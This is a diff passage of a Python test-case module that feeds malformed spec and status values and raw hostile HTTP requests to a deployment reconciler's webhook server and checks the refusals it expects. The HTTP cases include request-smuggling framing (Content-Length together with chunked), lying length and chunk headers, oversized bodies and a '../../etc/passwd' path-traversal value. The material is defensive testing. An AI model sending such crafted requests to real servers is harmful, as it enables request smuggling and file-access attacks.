+    _invalid("maxbump-unknown", {"maxBump": "huge"},
+             "spec.maxBump: must be one of 'patch', 'minor' or 'major', got 'huge'",
+             "maxBump: huge"),
+    _invalid("baketime-a-number", {"bakeTime": 300},
+             "spec.bakeTime: Input should be a valid string, got 300", "bakeTime: 300"),
+    _invalid("baketime-overflow", {"bakeTime": "99999999999999999999h"},
+             "spec.bakeTime: '99999999999999999999h' is longer than the longest Go duration",
+             "bakeTime longer than Go can hold"),
+    _invalid("deploytimeout-negative", {"deployTimeout": "-5m"},
+             "spec.deployTimeout: '-5m' is not a duration", "deployTimeout: -5m"),
+    _invalid("history-limit-a-word", {"versionHistoryLimit": "ten"},
+             "spec.versionHistoryLimit: Input should be a valid integer",
+             "versionHistoryLimit: ten"),
+    _invalid("history-limit-zero", {"versionHistoryLimit": 0},
+             "spec.versionHistoryLimit: Input should be greater than or equal to 1, got 0",
+             "versionHistoryLimit: 0"),
+    _invalid("image-policy-ref-a-string", {"releasesImagePolicy": "podinfo"},
+             "spec.releasesImagePolicy: Input should be a valid dictionary",
+             "releasesImagePolicy: a string"),
+    _invalid("image-policy-ref-without-name", {"releasesImagePolicy": {"namespace": 5}},
+             "spec.releasesImagePolicy.name: is required", "releasesImagePolicy without a name"),
+    _invalid("selector-a-string", {"healthCheckSelector": "app=podinfo"},
+             "spec.healthCheckSelector: Input should be a valid dictionary",
+             "healthCheckSelector: a string"),
+    _invalid("selector-bad-operator", {"healthCheckSelector": {"selector": {
+        "matchExpressions": [{"key": "app", "operator": "Like"}]}}},
+             "spec.healthCheckSelector.selector.matchExpressions.0.operator: must be one of",
+             "a matchExpression with operator Like"),
+    _invalid("selector-labels-numbers", {"healthCheckSelector": {"selector": {
+        "matchLabels": {"app": 5}}}},
+             "spec.healthCheckSelector.selector.matchLabels.app: Input should be a valid string",
+             "matchLabels with a number"),
+    _invalid("suspend-a-list", {"suspend": [True]},
+             "spec.suspend: Input should be a valid boolean, got [True]", "suspend: [true]"),
+    _invalid("constraint-garbage", {"versionConstraint": ">=banana"},
+             "spec.versionConstraint: invalid version constraint '>=banana'",
+             "versionConstraint: >=banana"),
+    _invalid("wanted-version-a-number", {"wantedVersion": 6.5},
+             "spec.wantedVersion: Input should be a valid string, got 6.5",
+             "wantedVersion: 6.5"),
+    _invalid("policy-unknown", {"policy": "yolo"},
+             "spec.policy: unknown preset 'yolo'", "policy: yolo"),
+    _no_target("status-a-list", "status: a list (someone else wrote the status)", [1, 2]),
+    _no_target("status-fields-wrong-types", "status.history 42, conditions a string, "
+               "availableReleases with a number and an object",
+               {"history": 42, "conditions": "Ready", "availableReleases": [1, {}, "6.5.0"]}),
+    _no_target("status-entries-garbage", "history and condition entries of every wrong type",
+               {"history": [7, "x", None, {"commit": 5, "bakeStatus": []},
+                            {"commit": "abc", "bakeStatus": "InProgress",
+                             "bakeStartTime": "yesterday"}],
+                "conditions": [{"type": "Stalled", "status": "True",
+                                "lastTransitionTime": {"not": "a time"}}]}),
+    _no_candidate("image-policy-status-a-string", "ImagePolicy status: a string", "Ready",
+                  "has a malformed status"),
+    _no_candidate("image-policy-status-a-list", "ImagePolicy status: a list", [1],
+                  "has a malformed status"),
+    _no_candidate("image-policy-latestref-a-string", "status.latestRef: a string",
+                  {"latestRef": "6.5.0"}, "reports no latest image yet"),
+    _no_candidate("image-policy-tag-a-number", "status.latestRef.tag: 650",
+                  {"latestRef": {"tag": 650}}, "status.latestRef has no tag"),
+    _no_candidate("image-policy-tag-a-list", "status.latestRef.tag: a list",
+                  {"latestRef": {"tag": ["6.5.0"]}}, "status.latestRef has no tag"),
+    _no_candidate("image-policy-latestimage-a-number", "v1beta2 status.latestImage: 42",
+                  {"latestImage": 42}, "reports no latest image yet"),
+    _no_candidate("image-policy-latestimage-no-tag", "latestImage ghcr.io:5000/podinfo",
+                  {"latestImage": "ghcr.io:5000/podinfo"},
+                  "status.latestImage 'ghcr.io:5000/podinfo' has no tag"),
+)
+
+
+def hostile_tag_cluster_case(tag: Tag) -> ClusterCase:
+    """An ImagePolicy offering a hostile tag: never written; the status says why."""
+    return _no_candidate(f"image-policy-tag-{tag.name}", f"latestRef.tag {tag.shown}",
+                         {"latestRef": {"tag": tag.value}},
+                         "reports a tag that is never released: ", tag.why)
+
+
+# -- HTTP cases ----------------------------------------------------------------------------
+
+Sign = Callable[[bytes], str]
+
+
+@dataclass(frozen=True)
+class HttpCase:
+    """Raw bytes for one connection to the webhook server, and the answer.
+
+    ``request(sign)`` builds the bytes (``sign`` gives ``sha256=<hex>`` for a body).
+    ``expect``: the status code of the first response, or 0 when the server must
+    answer nothing while the client keeps the connection open (it must still serve
+    others). ``covered_by`` names the test of the app in tests/integration/test_http.py
+    that checks the same refusal through the ASGI test client (not the wire).
+    """
+
+    name: str
+    what: str
+    request: Callable[[Sign], bytes]
+    expect: int
+    detail: str = ""
+    covered_by: str = ""
+    half_close: bool = False  # shut the write side after sending (a client hanging up)
+    closes: bool = False  # the server must close the connection after answering
+
+
+def _post(path: str, body: bytes, sign: Sign, *, headers: str | None = None,
+          length: str | None = None, signed: bytes | None = None) -> bytes:
+    head = (f"POST {path} HTTP/1.1\r\nHost: reconciler\r\nContent-Type: application/json\r\n"
+            f"X-Signature: {sign(body if signed is None else signed)}\r\n")
+    if headers is not None:
+        head += headers
+    if length is not None:
+        head += f"Content-Length: {length}\r\n" if length else ""
+    else:
+        head += f"Content-Length: {len(body)}\r\n"
+    return head.encode("latin-1") + b"\r\n" + body
+
+
+def _release(tag: str) -> bytes:
+    return json.dumps({"rollout": "apps/podinfo", "tag": tag}).encode()
+
+
+LIMIT = 4096  # the body limit the test server runs with
+_PADDED = b'{"padding": "' + b"x" * (LIMIT * 4) + b'"}'
+
+
+def _chunked(chunks: list[bytes], sign: Sign, *, sizes: list[int] | None = None) -> bytes:
+    body = b"".join(chunks)
+    head = (f"POST /hooks/git HTTP/1.1\r\nHost: reconciler\r\nX-Signature: {sign(body)}\r\n"
+            "Transfer-Encoding: chunked\r\n\r\n").encode()
+    framed = b"".join(b"%x\r\n%s\r\n" % (size, chunk) for size, chunk in
+                      zip(sizes or [len(c) for c in chunks], chunks, strict=True))
+    return head + framed + b"0\r\n\r\n"
+
+
+HTTP_CASES: tuple[HttpCase, ...] = (
+    HttpCase("length-declares-over-the-limit", "Content-Length: 1 GiB, nothing sent",
+             lambda s: _post("/hooks/git", b"", s, length=str(1 << 30)), 413,
+             "over the limit", "test_too_large_by_content_length_is_413"),
+    HttpCase("length-lies-short", "Content-Length: 20, 16 KiB sent",
+             lambda s: _post("/hooks/git", _PADDED, s, length="20"), 401,
+             "does not match the body", "test_too_large_with_a_lying_content_length_is_413"),
+    HttpCase("length-lies-long-then-hangs-up", "Content-Length: 1000, 10 bytes, then EOF",
+             lambda s: _post("/hooks/git", b'{"ref": 1}', s, length="1000"), 0,
+             covered_by="test_a_client_hanging_up_mid_body_is_logged_and_the_server_"
+                        "carries_on", half_close=True),
+    HttpCase("length-lies-long-and-stalls", "Content-Length: 1000, 10 bytes, then silence",
+             lambda s: _post("/hooks/git", b'{"ref": 1}', s, length="1000"), 0),
+    HttpCase("length-huge-number", "Content-Length: 30 digits (refused by the HTTP parser)",
+             lambda s: _post("/hooks/git", b"{}", s, length="9" * 30), 400),
+    HttpCase("length-negative", "Content-Length: -1",
+             lambda s: _post("/hooks/git", b"{}", s, length="-1"), 400,
+             covered_by="test_content_length_not_a_number_is_400"),
+    HttpCase("length-twice-differing", "two Content-Length headers, 2 and 200",
+             lambda s: _post("/hooks/git", b"{}", s, headers="Content-Length: 200\r\n"), 400),
+    HttpCase("length-and-chunked", "Content-Length and Transfer-Encoding: chunked together "
+             "(request smuggling)",
+             lambda s: _post("/hooks/git", b"2\r\n{}\r\n0\r\n\r\n", s, signed=b"{}",
+                             headers="Transfer-Encoding: chunked\r\n"), 400,
+             "both Content-Length and Transfer-Encoding", closes=True),
+    HttpCase("chunked-over-the-limit", "chunked, 16 KiB in 1 KiB chunks",
+             lambda s: _chunked([b'{"p": "', *[b"x" * 1024] * 16, b'"}'], s), 413,
+             "over the limit", "test_too_large_chunked_is_413"),
+    HttpCase("chunk-size-lies-short", "a chunk header saying 1 byte before 3",
+             lambda s: _chunked([b"{}\n"], s, sizes=[1]), 400),
+    HttpCase("chunk-size-lies-long", "a chunk header saying 0x10 bytes before 3, then "
+             "silence", lambda s: _chunked([b"{}\n"], s, sizes=[16]), 0),
+    HttpCase("body-of-100k-brackets", "a signed body of 100,000 '[' (over the 4 KiB limit)",
+             lambda s: _post("/hooks/git", b"[" * 100_000, s), 413, "over the limit"),
+    HttpCase("json-nested-deep-within-limit", "a signed body of 4,000 '[' (within the limit)",
+             lambda s: _post("/hooks/git", b"[" * 2000 + b"]" * 2000, s), 400,
+             "body is not JSON", "test_bad_body_is_400"),
+    HttpCase("release-rollout-traversal", '{"rollout": "../../etc/passwd", ...}',
+             lambda s: _post("/hooks/release", json.dumps(
+                 {"rollout": "../../etc/passwd", "tag": "6.5.0"}).encode(), s), 400,
+             "rollout: Value error", "test_bad_body_is_400"),
+    HttpCase("no-signature", "a release hook without a signature header",
+             lambda s: _post("/hooks/release", _release("6.5.0"), s).replace(
+                 b"X-Signature", b"X-Whatever"), 401, "no signature",
+             "test_missing_signature_is_401"),
+)
+
+
+def hostile_tag_http_case(tag: Tag) -> HttpCase:
+    # JSON escapes the tag; the refusal repeats it escaped, on one line.
+    return HttpCase(f"release-tag-{tag.name}", f"/hooks/release with tag {tag.shown}",
+                    lambda s, t=tag.value: _post("/hooks/release", _release(t), s), 400,
+                    tag.why, "test_invalid_tag_is_400_with_the_reason")
+
+
+def all_repo_cases() -> tuple[RepoCase, ...]:
+    return REPO_CASES + tuple(hostile_tag_repo_case(t) for t in HOSTILE_TAGS)
+
+
+def all_cluster_cases() -> tuple[ClusterCase, ...]:
+    return CLUSTER_CASES + tuple(hostile_tag_cluster_case(t) for t in HOSTILE_TAGS)
+
+
+def all_http_cases() -> tuple[HttpCase, ...]:
+    return HTTP_CASES + tuple(hostile_tag_http_case(t) for t in HOSTILE_TAGS)
